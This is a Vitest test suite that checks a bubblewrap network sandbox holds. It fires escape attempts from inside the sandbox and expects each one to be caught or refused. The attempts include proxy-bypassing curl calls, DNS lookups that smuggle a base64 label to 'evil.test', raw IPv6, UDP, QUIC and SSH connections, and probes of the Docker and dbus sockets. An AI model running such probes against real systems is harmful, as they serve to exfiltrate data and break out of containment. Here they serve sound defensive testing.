import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Canary, openCanary } from './canary.ts'
import { openTestHost, type TestHost, testUsers } from './run-in-bottle.ts'

describe.each(testUsers)('a bubblewrap bottle $title', (user) => {
  let host: TestHost
  let canary: Canary
  beforeAll(async () => {
    host = openTestHost(user)
    canary = await openCanary(`${host.folder('sockets')}/canary.sock`)
  })
  afterAll(async () => {
    await canary[Symbol.asyncDispose]()
    host[Symbol.dispose]()
  })

  /** Runs a body that gets `attempt(name, start)`: what happens to each start. */
  async function attempts(body: string): Promise<Record<string, string>> {
    const { stdout, stderr } = await host.run([
      host.node,
      '--input-type=module',
      '-e',
      `${attemptSource}\n${body}\n${attemptEnd}`,
    ])
    expect(stderr).toBe('')
    return JSON.parse(stdout)
  }

  it('catches a program that ignores proxy variables, by name and by raw address, at port 80 and 443 (S01)', async () => {
    const { connections, stdout } = await host.run([
      '/bin/bash',
      '-c',
      "curl -sS --noproxy '*' http://any.name.test/a; curl -sS --noproxy '*' http://203.0.113.9/b; curl -sSk --noproxy '*' https://any.name.test/ https://203.0.113.9/; curl -sS --proxy http://127.0.0.1:3128 http://any.name.test/c",
    ])
    const caught = connections.map(
      ({ listener, localAddress, localPort }) => `${listener} ${localAddress}:${localPort}`,
    )
    expect(caught).toEqual([
      'http 198.18.0.1:80',
      'http 203.0.113.9:80',
      'tls 198.18.0.1:443',
      'tls 203.0.113.9:443',
      'proxy 127.0.0.1:3128',
    ])
    expect(connections[0]?.firstBytes).toContain('Host: any.name.test')
    expect(connections[2]?.firstBytes).toContain('any.name.test')
    expect(stdout).toBe('refused\n'.repeat(3))
  })

  it('lets nothing else out: IPv6, other ports, UDP, QUIC fail at once and the host sees nothing (S02, I1)', async () => {
    const targets = [...canary.addresses, '8.8.8.8']
    const results = await attempts(`
      await attempt('ipv6', () => connect({ host: '2001:4860:4860::8888', port: 443 }))
      await attempt('ipv6 mapped', () => connect({ host: '::ffff:203.0.113.9', port: 8443 }))
      for (const host of ${JSON.stringify(targets)}) {
        await attempt('tcp ' + host, () => connect({ host, port: ${canary.tcpPort} }))
        await attempt('ssh ' + host, () => connect({ host, port: 22 }))
        await attempt('udp ' + host, () => datagram(host, ${canary.udpPort}))
        await attempt('quic ' + host, () => datagram(host, 443))
      }
    `)
    // Answers of the bottle's own kernel: whatever waits for a network ends with ETIMEDOUT or EHOSTUNREACH.
    for (const [name, outcome] of Object.entries(results)) {
      expect(outcome, name).toMatch(/^(ECONNREFUSED|ENETUNREACH|EADDRNOTAVAIL|EAFNOSUPPORT)$/)
    }
    expect(Object.keys(results)).toHaveLength(2 + 4 * targets.length)
    expect(canary.seen()).toBe(0)
  })

  it('answers names without asking anyone, whatever the type, the transport and the resolver (S03)', async () => {
    const direct = canary.addresses.map((host) => `new dns.Resolver({ timeout: 500, tries: 1 }), '${host}'`)
    const results = await attempts(`
      await attempt('A', () => dns.promises.resolve4('secret.evil.test'))
      await attempt('lookup', async () => [(await dns.promises.lookup('c2VjcmV0.evil.test')).address])
      await attempt('AAAA', () => dns.promises.resolve6('secret.evil.test'))
      await attempt('TXT', () => dns.promises.resolveTxt('secret.evil.test'))
      await attempt('MX', () => dns.promises.resolveMx('secret.evil.test'))
      await attempt('tcp 53', () => connect({ host: '8.8.8.8', port: 53 }))
      for (const [resolver, host] of [${direct.map((one) => `[${one}]`).join(', ')}]) {
        resolver.setServers([host])
        await attempt('direct ' + host, () => new Promise((done, fail) => resolver.resolve4('secret.evil.test', (e, r) => e ? fail(e) : done(r))))
      }
    `)
    expect(results).toEqual({
      A: '198.18.0.1',
      lookup: '198.18.0.1',
      AAAA: 'ENODATA',
      TXT: 'ENODATA',
      MX: 'ENODATA',
      'tcp 53': 'ECONNREFUSED',
      ...Object.fromEntries(canary.addresses.map((host) => [`direct ${host}`, '198.18.0.1'])),
    })
    expect(canary.seen()).toBe(0)
    if (process.env.CI !== undefined && process.getuid?.() === 0) expect(canary.watchesDns).toBe(true)
  })

  it('reaches no socket of the host, neither by path nor by abstract name, and finds only its own (S04)', async () => {
    const results = await attempts(`
      await attempt('path', () => connect({ path: ${JSON.stringify(canary.socketPath)} }))
      await attempt('abstract', () => connect({ path: ${JSON.stringify(canary.abstractSocket)} }))
      await attempt('docker', () => connect({ path: '/var/run/docker.sock' }))
      await attempt('bus', () => connect({ path: '/run/dbus/system_bus_socket' }))
    `)
    expect(Object.values(results)).toEqual(['ENOENT', 'ECONNREFUSED', 'ENOENT', 'ENOENT'])
    const { stdout } = await host.run(['/usr/bin/find', '/', '-path', '/proc', '-prune', '-o', '-type', 's', '-print'])
    expect(stdout).toBe('')
    expect(canary.seen()).toBe(0)
  })
})

/** Runs in the bottle. */
const attemptSource = `
import net from 'node:net'
import dgram from 'node:dgram'
import dns from 'node:dns'
const results = {}
async function attempt(name, start) {
  results[name] = await start().then((value) => String(value), (failure) => failure.code)
}
const connect = (target) => new Promise((resolve, reject) => {
  const socket = net.connect(target, () => { socket.destroy(); resolve('connected') })
  socket.on('error', reject)
})
const datagram = (host, port) => new Promise((resolve, reject) => {
  const socket = dgram.createSocket('udp4')
  socket.on('error', (failure) => { socket.close(); reject(failure) })
  socket.on('message', () => { socket.close(); resolve('answered') })
  const timer = setTimeout(() => { socket.close(); resolve('silent') }, 2_000)
  socket.on('close', () => clearTimeout(timer))
  // A connected socket is told that nobody listens.
  socket.connect(port, host, () => socket.send('x'))
})
`
const attemptEnd = 'process.stdout.write(JSON.stringify(results))'
